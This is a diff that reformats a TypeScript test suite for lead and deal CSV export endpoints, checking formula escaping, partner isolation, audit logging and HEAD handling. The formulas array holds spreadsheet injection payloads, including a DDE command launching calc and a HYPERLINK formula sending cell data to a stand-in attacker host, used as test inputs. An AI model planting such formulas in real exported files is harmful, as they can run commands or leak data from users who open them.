@@ -17,9 +17,19 @@ const member = 'reader@example.test'
 
 beforeAll(async () => {
   bench = await startSyncBench({ writeBack: false })
-  await bench.services.accounts.createUser({ partnerName: 'Northwind', email: member, password, role: 'member' })
+  await bench.services.accounts.createUser({
+    partnerName: 'Northwind',
+    email: member,
+    password,
+    role: 'member',
+  })
   // In front of the routes with an id, as Nitro ranks them.
-  http = await mountRoutes(bench.services, [{ method: 'GET', path: '/api/v1/leads/export', handler: leadsExport }, { method: 'HEAD', path: '/api/v1/leads/export', handler: leadsExport }, { method: 'GET', path: '/api/v1/deals/export', handler: dealsExport }, ...recordRoutes])
+  http = await mountRoutes(bench.services, [
+    { method: 'GET', path: '/api/v1/leads/export', handler: leadsExport },
+    { method: 'HEAD', path: '/api/v1/leads/export', handler: leadsExport },
+    { method: 'GET', path: '/api/v1/deals/export', handler: dealsExport },
+    ...recordRoutes,
+  ])
   client = createClient(http.url)
   await client.signIn(member, password)
 })
@@ -37,7 +47,7 @@ function parseCsv(text: string): string[][] {
     token.lastIndex = at
     const match = token.exec(text)
     if (!match) throw new Error(`Not RFC 4180 at ${at}: ${text.slice(at, at + 40)}`)
-    row.push(match[1] !== undefined ? match[1].replaceAll('""', '"') : match[2] ?? '')
+    row.push(match[1] !== undefined ? match[1].replaceAll('""', '"') : (match[2] ?? ''))
     if (match[3] !== '\r\n') continue
     rows.push(row)
     row = []
@@ -49,56 +59,147 @@ const rowsOf = async (path: string) => {
   // `text()` would take the mark off.
   const answer = await fetch(`${http.url}${path}`, { headers: { cookie: client.cookie } })
   const bytes = Buffer.from(await answer.arrayBuffer())
-  expect([...bytes.subarray(0, 3)]).toEqual([0xEF, 0xBB, 0xBF])
+  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
   const [header = [], ...rows] = parseCsv(bytes.subarray(3).toString())
-  return { headers: answer.headers, rows: rows.map(row => Object.fromEntries(header.map((name, index) => [name, row[index]]))) }
+  return {
+    headers: answer.headers,
+    rows: rows.map(row => Object.fromEntries(header.map((name, index) => [name, row[index]]))),
+  }
 }
 
-const formulas = ['=cmd|\' /C calc\'!A0', '=HYPERLINK("http://evil.example?x="&A1,"click")', '+1+1', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1', '\n=1+1', '\0=1', '＝1+1', '＋1', '－1', '＠a', '=1";=2', '=1,"=2"']
+const formulas = [
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example?x="&A1,"click")',
+  '+1+1',
+  '-2+3',
+  '@SUM(1+1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '\0=1',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠a',
+  '=1";=2',
+  '=1,"=2"',
+]
 
 describe('a cell', () => {
-  it.each(formulas.map(text => [JSON.stringify(text), text]))('that begins like a formula is text: %s', (_name, text) => {
-    expect(parseCsv(csvLine(['a', text, 'z']))).toEqual([['a', `'${text}`, 'z']])
-  })
+  it.each(formulas.map(text => [JSON.stringify(text), text]))(
+    'that begins like a formula is text: %s',
+    (_name, text) => {
+      expect(parseCsv(csvLine(['a', text, 'z']))).toEqual([['a', `'${text}`, 'z']])
+    },
+  )
 
   it('keeps what it holds otherwise', () => {
-    const values = ['', 'plain', 'a,b', 'say "hi"', 'two\r\nlines', 'a;=1+1', ' spaced ', 'Zoë 北京 👩‍🚀', '12.50', 'a=b', '\'quoted']
+    const values = [
+      '',
+      'plain',
+      'a,b',
+      'say "hi"',
+      'two\r\nlines',
+      'a;=1+1',
+      ' spaced ',
+      'Zoë 北京 👩‍🚀',
+      '12.50',
+      'a=b',
+      "'quoted",
+    ]
     expect(parseCsv(csvLine(values))).toEqual([values])
     expect(csvLine(['a;=1+1', null])).toBe('"a;=1+1",\r\n')
   })
 })
 
 describe('the export', () => {
-  it('holds every lead of the partner once, more than a page of them, and nobody else\'s', async () => {
+  it("holds every lead of the partner once, more than a page of them, and nobody else's", async () => {
     const { collections, partner } = bench
     const now = new Date()
-    const mine = Array.from({ length: 1203 }, (_, index) => ({ ...newLead(partner.partnerId, { email: `p${index}@example.com`, firstName: formulas[index % formulas.length], company: `Müller, "Söhne" & ${index}` }, now), hubspot_id: String(index), portal_id: partner.portalId, local_email: null }))
-    await collections.leads.insertMany([...mine, newLead(new ObjectId(), { email: 'canary@other.test' }, now)])
+    const mine = Array.from({ length: 1203 }, (_, index) => ({
+      ...newLead(
+        partner.partnerId,
+        {
+          email: `p${index}@example.com`,
+          firstName: formulas[index % formulas.length],
+          company: `Müller, "Söhne" & ${index}`,
+        },
+        now,
+      ),
+      hubspot_id: String(index),
+      portal_id: partner.portalId,
+      local_email: null,
+    }))
+    await collections.leads.insertMany([
+      ...mine,
+      newLead(new ObjectId(), { email: 'canary@other.test' }, now),
+    ])
     const { headers, rows } = await rowsOf('/api/v1/leads/export')
     expect(headers.get('content-type')).toBe('text/csv; charset=utf-8')
-    expect(headers.get('content-disposition')).toMatch(/^attachment; filename="leads-\d{4}-\d\d-\d\d\.csv"$/)
+    expect(headers.get('content-disposition')).toMatch(
+      /^attachment; filename="leads-\d{4}-\d\d-\d\d\.csv"$/,
+    )
     expect(headers.get('cache-control')).toBe('no-store')
     expect(rows.length).toBe(mine.length)
     expect(new Set(rows.map(row => row.id)).size).toBe(mine.length)
-    expect(rows[7]).toMatchObject({ hubspotId: '7', email: 'p7@example.com', firstName: `'${formulas[7]}`, lastName: '', company: 'Müller, "Söhne" & 7', syncState: 'unlinked' })
-    expect(rows.every(row => !Object.values(row).some(value => value !== undefined && /^[=+\-@\t\r]/.test(value)))).toBe(true)
+    expect(rows[7]).toMatchObject({
+      hubspotId: '7',
+      email: 'p7@example.com',
+      firstName: `'${formulas[7]}`,
+      lastName: '',
+      company: 'Müller, "Söhne" & 7',
+      syncState: 'unlinked',
+    })
+    expect(
+      rows.every(
+        row => !Object.values(row).some(value => value !== undefined && /^[=+\-@\t\r]/.test(value)),
+      ),
+    ).toBe(true)
     expect(JSON.stringify(rows)).not.toContain('canary')
   })
 
   it('holds the deals, with the leads that they belong to', async () => {
     const { collections, partner } = bench
     const leadIds = [new ObjectId(), new ObjectId()]
-    await collections.deals.insertOne({ ...newDeal(partner.partnerId, { name: '=1+1', amount: '-1200.50', currency: 'EUR', closeDate: '2026-12-31' }, new Date()), stage: 'won', lead_ids: leadIds })
+    await collections.deals.insertOne({
+      ...newDeal(
+        partner.partnerId,
+        { name: '=1+1', amount: '-1200.50', currency: 'EUR', closeDate: '2026-12-31' },
+        new Date(),
+      ),
+      stage: 'won',
+      lead_ids: leadIds,
+    })
     const { rows } = await rowsOf('/api/v1/deals/export')
-    expect(rows).toMatchObject([{ name: '\'=1+1', amount: '\'-1200.50', currency: 'EUR', stage: 'won', closeDate: '2026-12-31', leadIds: leadIds.join(' ') }])
+    expect(rows).toMatchObject([
+      {
+        name: "'=1+1",
+        amount: "'-1200.50",
+        currency: 'EUR',
+        stage: 'won',
+        closeDate: '2026-12-31',
+        leadIds: leadIds.join(' '),
+      },
+    ])
   })
 
   it('leaves an audit line; HEAD hands out nothing and leaves none', async () => {
-    const lines = () => bench.collections.auditLog.find({ partner_id: bench.partner.partnerId, action: 'records.export' }).sort({ _id: 1 }).toArray()
+    const lines = () =>
+      bench.collections.auditLog
+        .find({ partner_id: bench.partner.partnerId, action: 'records.export' })
+        .sort({ _id: 1 })
+        .toArray()
     const before = await lines()
-    expect(before.map(line => [line.actor.email, line.details.kind])).toEqual([[member, 'leads'], [member, 'deals']])
+    expect(before.map(line => [line.actor.email, line.details.kind])).toEqual([
+      [member, 'leads'],
+      [member, 'deals'],
+    ])
     const head = await client.request('HEAD', '/api/v1/leads/export')
-    expect([head.status, head.headers.get('content-type'), head.text]).toEqual([200, 'text/csv; charset=utf-8', ''])
+    expect([head.status, head.headers.get('content-type'), head.text]).toEqual([
+      200,
+      'text/csv; charset=utf-8',
+      '',
+    ])
     expect(await lines()).toEqual(before)
   })
 
@@ -108,15 +209,25 @@ describe('the export', () => {
   })
 
   it('of nothing is a header line', async () => {
-    await bench.services.accounts.createUser({ partnerName: 'Empty', email: 'empty@example.test', password, role: 'member' })
+    await bench.services.accounts.createUser({
+      partnerName: 'Empty',
+      email: 'empty@example.test',
+      password,
+      role: 'member',
+    })
     const empty = createClient(http.url)
     await empty.signIn('empty@example.test', password)
-    expect(parseCsv((await empty.get('/api/v1/deals/export')).text.replace(/^\uFEFF/, ''))).toHaveLength(1)
+    expect(
+      parseCsv((await empty.get('/api/v1/deals/export')).text.replace(/^\uFEFF/, '')),
+    ).toHaveLength(1)
   })
 
   it('ends quietly when the reader leaves in the middle', async () => {
     const abort = new AbortController()
-    const answer = await fetch(`${http.url}/api/v1/leads/export`, { headers: { cookie: client.cookie }, signal: abort.signal })
+    const answer = await fetch(`${http.url}/api/v1/leads/export`, {
+      headers: { cookie: client.cookie },
+      signal: abort.signal,
+    })
     const reader = answer.body?.getReader()
     await reader?.read()
     abort.abort()
